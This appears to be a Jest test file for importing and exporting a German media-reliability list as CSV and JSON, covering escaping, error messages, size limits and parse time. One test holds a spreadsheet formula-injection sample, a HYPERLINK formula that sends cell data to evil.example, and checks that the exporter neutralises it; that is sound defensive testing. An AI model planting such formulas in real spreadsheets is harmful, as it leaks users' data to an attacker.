import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { EntryInputSchema, LIST_CATEGORIES, fromListEntry, type EntryInput } from './list-entry.schema.js';
import { CSV_COLUMNS, MAX_IMPORT_ERRORS, MAX_IMPORT_ROWS, formatEntriesCsv, formatEntriesJson, formatRowError, parseEntriesCsv, parseEntriesCsvInSlices, parseEntriesJson, type RowError } from './list-file.js';
import { findBundledListsDir, parseListFile } from './load-lists.js';

const entry = (raw: Record<string, unknown>): EntryInput => EntryInputSchema.parse(raw);
const byPattern = (list: EntryInput[]) => [...list].sort((a, b) => (a.pattern < b.pattern ? -1 : a.pattern > b.pattern ? 1 : 0));
/** `line: field: message` of each error, for compact assertions. */
const described = (errors: RowError[]) => errors.map((e) => `${e.line}: ${e.field}: ${e.message}`);

const tricky: EntryInput[] = [
  entry({ pattern: 'https://www.Anti-Spiegel.ru/', category: 'disinformation', severity: 0.9, entity: 'Anti-Spiegel', note: 'Says "independent", is not; see, e.g., the Belltower piece', sourceUrl: 'https://www.belltower.news/a?b=1,2' }),
  entry({ pattern: 'Bücher-Lügen.de', category: 'conspiracy', severity: 0.55, note: 'Zeile eins\nZeile zwei, mit Komma\r\nZeile drei: „Anführungszeichen“ und ein Emoji 🦊' }),
  entry({ pattern: 't.me/NeuesAusRussland', kind: 'path', category: 'state_media', severity: 1, entity: 'Neues aus Russland (Alina Lipp)' }),
  entry({ pattern: 'rtde.*', category: 'state_media', severity: 0, note: '""' }),
  entry({ pattern: 'пример.рф', category: 'unreliable', severity: 1e-7, note: 'a "quoted" field,\n"with" a, comma' }),
];

describe('the entry model', () => {
  it('canonicalises what people paste (IDN becomes punycode; a scheme and a trailing slash do not make a path)', () => {
    expect(tricky.map((e) => [e.pattern, e.kind])).toEqual([
      ['anti-spiegel.ru', 'domain'],
      ['xn--bcher-lgen-9dbg.de', 'domain'],
      ['t.me/neuesausrussland', 'path'],
      ['rtde.*', 'family'],
      ['xn--e1afmkfd.xn--p1ai', 'domain'],
    ]);
  });
});

describe('CSV', () => {
  it('round-trips quotes, commas, line breaks and non-ASCII text', () => {
    const csv = formatEntriesCsv(tricky);
    expect(csv.split('\n')[0]).toBe('pattern,kind,category,severity,entity,note,source_url');
    expect(parseEntriesCsv(csv)).toEqual({ entries: byPattern(tricky), errors: [] });
  });

  it('writes free text that a spreadsheet would run as a formula with a leading quote, and reads it back as it was', () => {
    const risky = [
      entry({ pattern: 'a.example', category: 'satire', severity: 0.5, entity: '@Kanal', note: '=HYPERLINK("https://evil.example/?d="&A1,"Quelle")' }),
      entry({ pattern: 'b.example', category: 'satire', severity: 0.5, entity: '+49 Netzwerk', note: "'=schon mit Anführungszeichen" }),
      entry({ pattern: 'c.example', category: 'satire', severity: 0.5, entity: 'Ein - Bindestrich', note: "-1+1 und ein 'Zitat'" }),
    ];
    const csv = formatEntriesCsv(risky);
    const rows = csv.split('\n');
    expect(rows[1]).toBe(`a.example,domain,satire,0.5,'@Kanal,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Quelle"")",`);
    expect(rows[2]).toBe(`b.example,domain,satire,0.5,'+49 Netzwerk,''=schon mit Anführungszeichen,`);
    expect(rows[3]).toBe(`c.example,domain,satire,0.5,Ein - Bindestrich,'-1+1 und ein 'Zitat',`);
    expect(parseEntriesCsv(csv)).toEqual({ entries: byPattern(risky), errors: [] });
  });

  it('leaves a leading quote alone when no formula character follows it', () => {
    const csv = 'pattern,category,severity,note\na.example,satire,0.5,\'nur zitiert\'\nb.example,satire,0.5,\'=als Text gemeint\n';
    expect(parseEntriesCsv(csv).entries.map((e) => e.note)).toEqual(["'nur zitiert'", '=als Text gemeint']);
  });

  it('writes rows sorted by pattern, with a trailing line break', () => {
    const csv = formatEntriesCsv([tricky[2]!, tricky[0]!]);
    expect(csv).toBe(
      'pattern,kind,category,severity,entity,note,source_url\n' +
        'anti-spiegel.ru,domain,disinformation,0.9,Anti-Spiegel,"Says ""independent"", is not; see, e.g., the Belltower piece","https://www.belltower.news/a?b=1,2"\n' +
        't.me/neuesausrussland,path,state_media,1,Neues aus Russland (Alina Lipp),,\n',
    );
  });

  it('reads columns in any order, case-insensitively, with optional columns left out', () => {
    const csv = 'Severity,PATTERN,Category\n0.5,Example.ORG,satire\n0.25,https://t.me/some_channel/,platform\n';
    expect(parseEntriesCsv(csv)).toEqual({
      entries: [
        { pattern: 'example.org', kind: 'domain', category: 'satire', severity: 0.5, entity: null, note: null, sourceUrl: null },
        { pattern: 't.me/some_channel', kind: 'path', category: 'platform', severity: 0.25, entity: null, note: null, sourceUrl: null },
      ],
      errors: [],
      // The file says nothing about these: a merge keeps what the list has.
      unsent: ['entity', 'note', 'sourceUrl'],
    });
  });

  it('tolerates a BOM, CRLF line ends, empty lines, rows of empty cells and spaces around values', () => {
    const csv = '\uFEFFpattern,category,severity,note\r\n\r\n a.example , satire , 0.5 , "x" \r\n,,,\r\n   \r\nb.example,satire,.5,\r\n';
    const { entries, errors } = parseEntriesCsv(csv);
    expect(errors).toEqual([]);
    expect(entries.map((e) => [e.pattern, e.severity, e.note])).toEqual([
      ['a.example', 0.5, 'x'],
      ['b.example', 0.5, null],
    ]);
  });

  it('reads what a spreadsheet in a German locale saves: semicolons and a decimal comma', () => {
    const csv = 'pattern;category;severity;note\nexample.org;satire;0,75;"eins; zwei"\n';
    expect(parseEntriesCsv(csv).entries).toEqual([
      { pattern: 'example.org', kind: 'domain', category: 'satire', severity: 0.75, entity: null, note: 'eins; zwei', sourceUrl: null },
    ]);
  });

  describe('reports each invalid row with its physical line', () => {
    const lines = [
      /*  1 */ 'pattern,kind,category,severity,note,source_url',
      /*  2 */ 'ok.example,,satire,0.5,"a note',
      /*  3 */ 'on two lines, with a comma",',
      /*  4 */ '',
      /*  5 */ 'bad-severity.example,,satire,1.5,,',
      /*  6 */ 'unknown-category.example,,gossip,0.5,,',
      /*  7 */ 'not a host,,satire,0.5,,',
      /*  8 */ 'https://www.OK.example/,,satire,0.6,same pattern as line 2,',
      /*  9 */ 'multi.example,,satire,0.5,"first ""line""',
      /* 10 */ '',
      /* 11 */ 'third line",https://example.org/source',
      /* 12 */ 'high.example,,satire,high,,',
      /* 13 */ 'several.example,family,,2,,ftp://example.org/',
      /* 14 */ 'short.example,,satire',
      /* 15 */ 't.me/channel,domain,satire,0.5,,',
      /* 16 */ ',,satire,0.5,,',
    ];
    const expected = [
      '5: severity: must be a number between 0 and 1',
      `6: category: unknown category "gossip" (one of ${LIST_CATEGORIES.join(', ')})`,
      '7: pattern: "not a host" is not a host name (such as example.org)',
      '8: pattern: duplicate of line 2 (ok.example)',
      '12: severity: must be a number between 0 and 1',
      '13: pattern: a family is one label followed by .* (such as rtde.*)',
      '13: category: is required',
      '13: severity: must be a number between 0 and 1',
      '13: source_url: must be an http(s) URL',
      '14: null: has 3 values, the header has 6 (a separator in a value that is not quoted?)',
      '15: pattern: a domain entry has no path; use kind "path" for a domain with a path prefix',
      '16: pattern: is required',
    ];

    it.each([
      ['LF', '\n'],
      ['CRLF', '\r\n'],
    ])('(%s line ends)', (_name, eol) => {
      const { entries, errors } = parseEntriesCsv(`\uFEFF${lines.join(eol)}${eol}`);
      expect(described(errors)).toEqual(expected);
      expect(errors.every((e) => e.pointer === null)).toBe(true);
      expect(entries.map((e) => e.pattern)).toEqual(['ok.example', 'multi.example']);
      expect(entries[0]!.note).toBe(`a note${eol}on two lines, with a comma`);
      expect(entries[1]!.note).toBe(`first "line"${eol}${eol}third line`);
    });

    it('formats an error as one line of text', () => {
      const { errors } = parseEntriesCsv(lines.join('\n'));
      expect(formatRowError(errors[0]!)).toBe('line 5: severity: must be a number between 0 and 1');
    });
  });

  it('reports header problems on line 1 and reads no rows', () => {
    expect(described(parseEntriesCsv('pattern,category,severity,colour,Category\na.example,satire,0.5,red,satire\n').errors)).toEqual([
      `1: colour: unknown column (the columns are pattern, kind, category, severity, entity, note, source_url)`,
      '1: Category: column appears twice',
    ]);
    expect(described(parseEntriesCsv('pattern,note\na.example,x\n').errors)).toEqual([
      '1: category: required column is missing',
      '1: severity: required column is missing',
    ]);
    expect(parseEntriesCsv('').errors).toEqual([
      { line: null, pointer: null, field: null, message: 'the file is empty: a header row is required (pattern,category,severity,...)' },
    ]);
    expect(parseEntriesCsv('pattern,category,severity\n')).toEqual({ entries: [], errors: [], unsent: ['entity', 'note', 'sourceUrl'] });
  });

  it('numbers the last row right when the file does not end with a line break', () => {
    const { errors } = parseEntriesCsv('pattern,category,severity,note\na.example,satire,0.5,"x\r\ny"\nb.example,satire,2,"p\nq"');
    expect(described(errors)).toEqual(['4: severity: must be a number between 0 and 1']);
  });

  it('reports broken quoting on the line where the row starts', () => {
    const unclosed = parseEntriesCsv('pattern,category,severity,note\na.example,satire,0.5,\n\nb.example,satire,0.5,"never closed\nmore\n');
    expect(described(unclosed.errors)).toEqual(['4: null: a quoted value is never closed (missing ")']);
    expect(unclosed.entries.map((e) => e.pattern)).toEqual(['a.example']);

    const stray = parseEntriesCsv('pattern,category,severity,note\na.example,satire,0.5,"two\nlines"\nb.example,satire,0.5,say "hi"\nc.example,satire,0.5,\n');
    expect(described(stray.errors)).toEqual([
      '4: null: a quote (") inside an unquoted value: put the whole value in quotes and double every quote inside it',
    ]);
    expect(stray.entries.map((e) => e.pattern)).toEqual(['a.example', 'c.example']);
  });

  it('reports every row with broken quoting on its own line and reads on after it', () => {
    const { entries, errors } = parseEntriesCsv('pattern,category,severity\n"a.example"x,satire,0.5\nb.example,satire,0.5\nc"example,satire,0.5\n"d.example" "e",satire,0.5\nf.example,satire,0.5\n');
    expect(described(errors)).toEqual([
      '2: null: text after the closing quote of a quoted value (double every quote inside a quoted value)',
      '4: null: a quote (") inside an unquoted value: put the whole value in quotes and double every quote inside it',
      '5: null: a quote (") inside an unquoted value: put the whole value in quotes and double every quote inside it',
    ]);
    expect(entries.map((e) => e.pattern)).toEqual(['b.example', 'f.example']);
  });
});

describe('CSV at the size limit', () => {
  const HEADER = 'pattern,kind,category,severity,entity,note\n';
  const rows = (count: number, from = 0) => Array.from({ length: count }, (_, i) => `e${from + i}.example,domain,satire,0.5,,note ${i}\n`).join('');

  it(`refuses a file of more than ${MAX_IMPORT_ROWS} entries at the first row too many, and reads no further`, () => {
    const { entries, errors } = parseEntriesCsv(`${HEADER}${rows(MAX_IMPORT_ROWS + 5)}`);
    expect(entries).toHaveLength(MAX_IMPORT_ROWS);
    expect(described(errors)).toEqual([`${MAX_IMPORT_ROWS + 2}: null: the file has more than ${MAX_IMPORT_ROWS} entries: split it into several imports`]);
  });

  it(`stops after ${MAX_IMPORT_ERRORS} problems and says so`, () => {
    const { errors } = parseEntriesCsv(`${HEADER}${'x"y\n'.repeat(MAX_IMPORT_ERRORS * 3)}`);
    expect(errors).toHaveLength(MAX_IMPORT_ERRORS + 1);
    expect(errors.slice(0, 2).map((e) => e.line)).toEqual([2, 3]);
    expect(errors.at(-1)).toEqual({ line: null, pointer: null, field: null, message: `more than ${MAX_IMPORT_ERRORS} problems: the rest of the file was not checked; fix these first` });
  });

  it.each([
    ['pattern', `${'x'.repeat(1_000_000)}.example,,satire,0.5,,`, 'pattern: must be at most 400 characters'],
    ['note (quoted)', `a.example,,satire,0.5,,"${'n""'.repeat(400_000)}"`, 'note: must be at most 500 characters'],
    ['severity', `a.example,,satire,${'1'.repeat(1_000_000)},,`, 'severity: must be a number between 0 and 1'],
    ['category', `a.example,,${'c'.repeat(1_000_000)},0.5,,`, `category: unknown category "${'c'.repeat(57)}..." (one of ${LIST_CATEGORIES.join(', ')})`],
  ])('reports a value of a megabyte in %s as too long', (_column, row, problem) => {
    expect(described(parseEntriesCsv(`${HEADER}${row}\n`).errors)).toEqual([`2: ${problem}`]);
  });

  it('reports a header of very many columns in one error', () => {
    expect(described(parseEntriesCsv(`${'x,'.repeat(100_000)}\n`).errors)).toEqual([`1: null: has 100001 columns (the columns are ${CSV_COLUMNS.join(', ')})`]);
  });

  // Adversarial shapes of n characters; csv-parse took time in the square of n on several.
  // Adversarial shapes of n characters (n chosen so that a run takes milliseconds, not less).
  const shapes: [string, number, (n: number) => string][] = [
    ['one long unquoted line', 4096 * 1024, (n) => HEADER + 'a'.repeat(n)],
    ['quotes inside one unquoted value', 1024 * 1024, (n) => HEADER + 'a"'.repeat(n / 2)],
    ['doubled quotes, never closed', 4096 * 1024, (n) => `${HEADER}"${'""'.repeat(n / 2)}`],
    ['one quoted value of line breaks', 4096 * 1024, (n) => `${HEADER}a.example,,satire,0.5,,"${'\r\n'.repeat(n / 2)}"`],
    ['very many columns', 64 * 1024, (n) => HEADER + ','.repeat(n)],
    ['mixed CR and LF', 1024 * 1024, (n) => HEADER + '\r\n\r\r\n\n'.repeat(n / 6)],
    ['rows of empty cells', 64 * 1024, (n) => HEADER + ',,,,,\n'.repeat(n / 6)],
    ['valid rows', 64 * 1024, (n) => HEADER + rows(Math.floor(n / 40))],
    ['rows with the wrong number of values', 1024 * 1024, (n) => HEADER + 'x\n'.repeat(n / 2)],
  ];
  const time = (text: string): number => {
    const start = performance.now();
    parseEntriesCsv(text);
    return performance.now() - start;
  };

  it.each(shapes)('takes time linear in the input: %s (n >= %d and 4n characters)', (_name, smallest, make) => {
    // n grows until one run takes 10 ms, above timer noise. Runs of n and 4n alternate, so that
    // a busy moment of the machine slows both, and the fastest of each counts; a busy machine
    // only ever makes a ratio worse, so up to three tries are made (a quadratic parser never passes).
    let n = smallest;
    while (time(make(n)) < 10 && n < 8 * 1024 * 1024) n *= 2;
    const small = make(n);
    const large = make(4 * n);
    const ratios: number[] = [];
    for (let attempt = 0; attempt < 3 && !(ratios.at(-1)! < 8); attempt++) {
      let [bestSmall, bestLarge] = [Infinity, Infinity];
      for (let i = 0; i < 3; i++) {
        bestSmall = Math.min(bestSmall, time(small));
        bestLarge = Math.min(bestLarge, time(large));
      }
      ratios.push(bestLarge / bestSmall);
    }
    // Linear is a ratio of about 4, quadratic 16.
    expect(Math.min(...ratios)).toBeLessThan(8);
  });

  it('gives the same result in slices and lets the event loop run in between', async () => {
    const text = `${HEADER}${rows(20_000)}${'a"'.repeat(500_000)}\n${rows(100, 20_000)}`;
    let turns = 0;
    const ticker = setInterval(() => turns++, 1);
    const sliced = await parseEntriesCsvInSlices(text);
    clearInterval(ticker);
    expect(sliced).toEqual(parseEntriesCsv(text));
    expect(sliced.entries).toHaveLength(20_100);
    expect(turns).toBeGreaterThan(0);
  });
});

describe('JSON', () => {
  const meta = { name: 'Test list', description: 'Mit Umlauten: äöü', source: 'https://example.org/list', license: 'CC BY 4.0', version: '2026.11.24' };

  it('round-trips the list metadata and the entries', () => {
    const json = formatEntriesJson(meta, tricky);
    expect(parseEntriesJson(json)).toEqual({ list: meta, entries: byPattern(tricky), errors: [] });
    expect(JSON.parse(json)).toEqual({ list: meta, entries: expect.any(Array) });
  });

  it('writes one entry per line, sorted by pattern, null fields left out', () => {
    expect(formatEntriesJson({ name: 'x' }, [tricky[2]!, tricky[3]!])).toBe(
      '{\n' +
        '  "list": { "name": "x" },\n' +
        '  "entries": [\n' +
        '    { "pattern": "rtde.*", "kind": "family", "category": "state_media", "severity": 0, "note": "\\"\\"" },\n' +
        '    { "pattern": "t.me/neuesausrussland", "kind": "path", "category": "state_media", "severity": 1, "entity": "Neues aus Russland (Alina Lipp)" }\n' +
        '  ]\n' +
        '}\n',
    );
    expect(formatEntriesJson({}, [])).toBe('{\n  "list": {},\n  "entries": []\n}\n');
    expect(parseEntriesJson(formatEntriesJson({}, []))).toEqual({ list: {}, entries: [], errors: [] });
  });

  it('accepts a bare array of entries (and a BOM)', () => {
    const { list, entries, errors } = parseEntriesJson('\uFEFF[{ "pattern": "WWW.Example.org", "category": "satire", "severity": 0.5, "entity": null }]');
    expect(errors).toEqual([]);
    expect(list).toBeUndefined();
    expect(entries).toEqual([{ pattern: 'example.org', kind: 'domain', category: 'satire', severity: 0.5, entity: null, note: null, sourceUrl: null }]);
  });

  it('reports the line and column of a syntax error', () => {
    const text = '{\n  "entries": [\n    { "pattern": "a.example", "category": "satire", "severity": 0.5 },\n    { "pattern": "b.example", }\n  ]\n}\n';
    expect(parseEntriesJson(text)).toEqual({
      entries: [],
      errors: [{ line: 4, pointer: null, field: null, message: 'invalid JSON: expected a property name in double quotes (column 31)' }],
    });
    expect(parseEntriesJson('[\n  "unterminated\n]').errors[0]).toMatchObject({ line: 2, message: expect.stringContaining('line break or control character inside a string') });
    expect(parseEntriesJson('[1, 2,]').errors[0]).toMatchObject({ line: 1, message: 'invalid JSON: unexpected "]" (column 7)' });
    expect(parseEntriesJson('{"entries": []} x').errors[0]).toMatchObject({ line: 1, message: 'invalid JSON: unexpected "x" (column 17)' });
    expect(parseEntriesJson('').errors[0]).toMatchObject({ line: 1, message: 'invalid JSON: unexpected end of input (column 1)' });
  });

  it('reports invalid entries with a JSON pointer and the line where the entry starts', () => {
    const text = [
      /*  1 */ '{',
      /*  2 */ '  "list": { "name": 5, "owner": "me" },',
      /*  3 */ '  "entries": [',
      /*  4 */ '    { "pattern": "a.example", "category": "satire", "severity": 0.5 },',
      /*  5 */ '    {',
      /*  6 */ '      "pattern": "b.example",',
      /*  7 */ '      "category": "satire",',
      /*  8 */ '      "severity": "0.5"',
      /*  9 */ '    },',
      /* 10 */ '    { "pattern": "c.example", "category": "gossip", "severity": 0.5, "colour": "red" },',
      /* 11 */ '    { "pattern": "https://a.example/", "category": "satire", "severity": 0.7 },',
      /* 12 */ '    "d.example",',
      /* 13 */ '    { "pattern": "e/x", "kind": "link", "category": "satire", "severity": 0.5, "note": 3 }',
      /* 14 */ '  ],',
      /* 15 */ '  "extra": true',
      /* 16 */ '}',
    ].join('\n');
    const { list, entries, errors } = parseEntriesJson(text);
    expect(list).toBeUndefined();
    expect(entries.map((e) => e.pattern)).toEqual(['a.example']);
    expect(errors.map((e) => [e.line, e.pointer, e.field, e.message])).toEqual([
      [15, '/extra', 'extra', 'unknown field (a list file has "list" and "entries")'],
      [2, '/list/name', 'name', 'must be text'],
      [2, '/list/owner', 'owner', 'unknown field (one of name, description, source, license, version)'],
      [5, '/entries/1/severity', 'severity', 'must be a number between 0 and 1'],
      [10, '/entries/2/category', 'category', `unknown category "gossip" (one of ${LIST_CATEGORIES.join(', ')})`],
      [10, '/entries/2/colour', 'colour', 'unknown field'],
      [11, '/entries/3/pattern', 'pattern', 'duplicate of /entries/0 (line 4) (a.example)'],
      [12, '/entries/4', null, 'must be an object with pattern, category and severity'],
      [13, '/entries/5/kind', 'kind', 'must be one of domain, path, family'],
      [13, '/entries/5/note', 'note', 'must be text'],
    ]);
    expect(formatRowError(errors[3]!)).toBe('line 5: /entries/1/severity: must be a number between 0 and 1');
  });

  it('says what is wrong with the document itself', () => {
    expect(parseEntriesJson('{ "list": {} }').errors).toEqual([{ line: 1, pointer: '/entries', field: 'entries', message: 'is required: an array of entries' }]);
    expect(parseEntriesJson('"x"').errors).toEqual([
      { line: 1, pointer: '', field: null, message: 'expected an object with "entries" (and optionally "list"), or an array of entries' },
    ]);
  });

  describe('the bundled list format (data/lists/*.json)', () => {
    const text = readFileSync(join(findBundledListsDir(), 'loupe-de.json'), 'utf8');

    it('reads data/lists/loupe-de.json: entries with domain/path/family, the first source as sourceUrl', () => {
      const { list, entries, errors } = parseEntriesJson(text);
      expect(errors).toEqual([]);
      const bundled = parseListFile('loupe-de.json', text);
      expect(list).toEqual({ name: bundled.name, version: bundled.version, license: bundled.license, source: bundled.attribution });
      expect(entries).toEqual(bundled.entries.map((e) => fromListEntry(e, bundled.sources![e.sources![0]!]!.url)));
      expect(entries.find((e) => e.pattern === 't.me/rt_de')).toMatchObject({ kind: 'path', category: 'state_media', entity: 'RT DE' });
      expect(entries.find((e) => e.pattern === 'rtde.*')).toMatchObject({ kind: 'family', sourceUrl: expect.stringMatching(/^https:\/\//) });
      expect(entries.every((e) => e.sourceUrl !== null)).toBe(true);
    });

    it('round-trips through both export formats', () => {
      const { entries } = parseEntriesJson(text);
      expect(parseEntriesCsv(formatEntriesCsv(entries))).toEqual({ entries: byPattern(entries), errors: [] });
      expect(parseEntriesJson(formatEntriesJson({ name: 'loupe-de' }, entries)).entries).toEqual(byPattern(entries));
    });

    it('reports its own mistakes with pointers in its own field names', () => {
      const doc = [
        /*  1 */ '{',
        /*  2 */ '  "id": "t", "name": "T", "version": "1", "license": "CC0",',
        /*  3 */ '  "sources": { "s1": { "title": "S", "url": "https://example.org/s1" }, "ftp": { "title": "F", "url": "ftp://example.org/f" } },',
        /*  4 */ '  "entries": [',
        /*  5 */ '    { "domain": "bücher.example", "category": "satire", "severity": 0.5, "sources": ["s1"] },',
        /*  6 */ '    { "domain": "b.example", "category": "satire", "severity": 5 },',
        /*  7 */ '    { "domain": "c.example", "category": "satire", "severity": 0.5, "sources": ["s1", "nope"] },',
        /*  8 */ '    { "domain": "d.example", "family": "d.*", "category": "satire", "severity": 0.5 },',
        /*  9 */ '    { "domain": "xn--bcher-kva.example", "category": "satire", "severity": 0.6 },',
        /* 10 */ '    { "domain": "e.example", "category": "satire", "severity": 0.5, "sources": ["ftp"] }',
        /* 11 */ '  ]',
        /* 12 */ '}',
      ].join('\n');
      const { list, entries, errors } = parseEntriesJson(doc);
      expect(list).toEqual({ name: 'T', version: '1', license: 'CC0' });
      expect(entries).toEqual([
        { pattern: 'xn--bcher-kva.example', kind: 'domain', category: 'satire', severity: 0.5, entity: null, note: null, sourceUrl: 'https://example.org/s1' },
      ]);
      expect(errors.map((e) => [e.line, e.pointer, e.field, e.message])).toEqual([
        [6, '/entries/1/severity', 'severity', 'must be a number between 0 and 1'],
        [7, '/entries/2/sources/1', 'sources', `unknown source key "nope" (not in the list's "sources")`],
        [8, '/entries/3', null, 'an entry has exactly one of domain or family'],
        [9, '/entries/4/domain', 'domain', 'duplicate of /entries/0 (line 5) (xn--bcher-kva.example)'],
        [10, '/entries/5/sources/0', 'sources', "the first source's URL must be an http(s) URL"],
      ]);
    });
  });
});

describe('round-trip property', () => {
  const label = fc.stringMatching(/^[a-z0-9](?:[a-z0-9-]{0,10}[a-z0-9])?$/);
  const host = fc.tuple(label, fc.constantFrom('de', 'org', 'example', 'xn--p1ai', 'рф', 'münchen')).map(([l, tld]) => `${l}.${tld}`);
  const pattern = fc.oneof(
    host,
    fc.tuple(host, fc.stringMatching(/^[a-z0-9_-]{1,12}$/)).map(([h, p]) => `${h}/${p}`),
    label.map((l) => `${l}.*`),
  );
  const text = (max: number) => fc.option(fc.string({ unit: fc.constantFrom('a', 'Ä', ' ', ',', ';', '"', "'", '\n', '\r', '\t', '🦊', 'ß', '=', '#', '+', '-', '@'), maxLength: max }), { nil: null });
  const rawEntry = fc.record({
    pattern,
    category: fc.constantFrom(...LIST_CATEGORIES),
    severity: fc.double({ min: 0, max: 1, noNaN: true }),
    entity: text(20),
    note: text(80),
    sourceUrl: fc.option(fc.webUrl(), { nil: null }),
  });
  const entries = fc.uniqueArray(rawEntry, { maxLength: 8 }).map((raws) => {
    const seen = new Set<string>();
    return raws.flatMap((raw) => {
      const parsed = EntryInputSchema.safeParse(raw);
      if (!parsed.success || seen.has(parsed.data.pattern)) return [];
      seen.add(parsed.data.pattern);
      return [parsed.data];
    });
  });

  it('parse(format(entries)) gives the entries back, for CSV and JSON', () => {
    fc.assert(
      fc.property(entries, (list) => {
        expect(parseEntriesCsv(formatEntriesCsv(list))).toEqual({ entries: byPattern(list), errors: [] });
        expect(parseEntriesJson(formatEntriesJson({ name: 'p' }, list))).toEqual({ list: { name: 'p' }, entries: byPattern(list), errors: [] });
      }),
      { numRuns: 300 },
    );
  });
});
